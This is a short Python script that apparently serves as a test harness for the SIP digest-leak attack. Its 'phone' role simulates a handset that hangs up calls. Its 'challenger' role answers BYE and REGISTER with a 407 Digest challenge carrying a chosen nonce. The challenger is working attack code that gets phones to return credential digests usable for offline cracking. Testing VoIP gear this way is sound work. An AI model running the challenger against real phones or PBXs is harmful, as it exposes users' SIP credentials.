# SPDX-License-Identifier: GPL-2.0-or-later
"""The two ends of a digest leak: a phone (or server) that hangs up on whoever calls it, and
somebody who challenges whatever he is asked.

  leak.py phone HERE REGISTRAR       registers, then takes one call and ends it with BYE
  leak.py challenger HERE [TARGET]   answers 407 to all requests; with TARGET it calls there first

Addresses are IPv4, the port is 5060.  Each prints a line for what it hears, "401 REGISTER ADDRESS"
or "BYE ADDRESS", as soon as it does, and ends after SECONDS of silence."""
import socket
import sys

SECONDS = 10
BODY = "Content-Length: 0\r\n\r\n"


def request(method, target, cseq, call, tag=""):
    return ("%s sip:%s SIP/2.0\r\nVia: SIP/2.0/UDP %s:5060;branch=z9hG4bK%s%d;rport\r\n"
            "Max-Forwards: 70\r\nFrom: <sip:100@%s>;tag=a\r\nTo: <sip:100@%s>%s\r\nCall-ID: %s\r\n"
            "CSeq: %d %s\r\nContact: <sip:100@%s>\r\nUser-Agent: ExamplePhone\r\n" % (
                method, target, here, call, cseq, here, target, tag, call, cseq, method, here)
            + BODY).encode()


def lines_of(data, names):
    return "".join(x + "\r\n" for x in data.decode("latin-1").split("\r\n\r\n")[0].split("\r\n")[1:]
                   if x.split(":")[0].lower() in names)


def answer(data, status, more=""):
    copied = lines_of(data, ("via", "from", "to", "call-id", "cseq"))
    if ";tag=b" not in copied:
        copied = "".join(x + (";tag=b" if x.startswith("To:") and ";tag" not in x else "") + "\r\n"
                         for x in copied.split("\r\n") if x)
    return ("SIP/2.0 %s\r\n%s%sContact: <sip:100@%s>\r\n" % (status, copied, more, here)
            + BODY).encode()


def hear():
    while True:
        data, peer = sock.recvfrom(65535)
        first = data.split(b"\r\n")[0].decode("latin-1").split(" ")
        if first[0] == "SIP/2.0":
            what = "%s %s" % (first[1], lines_of(data, ("cseq",)).split()[-1])
        elif len(first) == 3:
            what = first[0]
        else:
            continue
        print(what, peer[0], flush=True)
        yield what, data, peer


def phone(registrar):
    sock.sendto(request("REGISTER", registrar, 1, "reg"), (registrar, 5060))
    for what, data, peer in hear():
        if what == "INVITE":
            sock.sendto(answer(data, "200 OK"), peer)
        elif what == "ACK":
            sock.sendto(request("BYE", peer[0], 7, "call", ";tag=a"), peer)


def challenger(target=None):
    if target:
        sock.sendto(request("INVITE", target, 1, "call"), (target, 5060))
    challenge = 'Proxy-Authenticate: Digest realm="pbx.example", nonce="chosen"\r\n'
    for what, data, peer in hear():
        if what == "200 INVITE":
            sock.sendto(request("ACK", target, 1, "call", ";tag=b").replace(b"K1;", b"Kack;"), peer)
        elif what in ("BYE", "REGISTER"):
            sock.sendto(answer(data, "407 Proxy Authentication Required", challenge), peer)


role, here = sys.argv[1:3]
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
sock.bind((here, 5060))
sock.settimeout(SECONDS)
print("ready", flush=True)
try:
    {"phone": phone, "challenger": challenger}[role](*sys.argv[3:])
except TimeoutError:
    pass
